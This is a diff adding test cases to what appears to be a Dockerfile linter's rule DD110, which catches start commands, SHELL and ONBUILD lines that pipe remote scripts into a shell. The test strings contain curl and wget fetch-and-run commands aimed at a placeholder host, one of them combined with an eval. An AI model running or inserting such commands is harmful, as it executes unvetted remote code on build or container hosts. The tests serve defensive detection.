@@ -366,6 +366,17 @@ describe('DD110 checks SHELL, start commands and ONBUILD', () => {
     line: 2,
   });
   catches('DD110', `${F}HEALTHCHECK CMD curl -fsSL https://x.example/check.sh | sh`, { line: 2 });
+  catches('DD110', `${F}ENTRYPOINT ["/bin/sh", "-c"]\nCMD ["curl -fsSL https://x.example/start.sh | sh"]`, {
+    line: 3,
+  });
+  catches(
+    'DD110',
+    `${F}ENV P=https://x.example/p.sh\nSHELL ["/bin/sh", "-c", "curl -s $P | sh; eval \\"$1\\"", "sh"]\nRUN true`,
+    {
+      line: 3,
+    },
+  );
+
   catches('DD110', `${F}ONBUILD RUN wget -qO- https://x.example/i.sh | bash`, { line: 2 });
   passes('DD110', `${F}HEALTHCHECK CMD curl -fsS http://localhost:8080/health | grep -q ok || exit 1`);
   passes('DD110', `${F}CMD ["sh", "-c", "curl -fsS http://localhost/ready && exec app"]`);
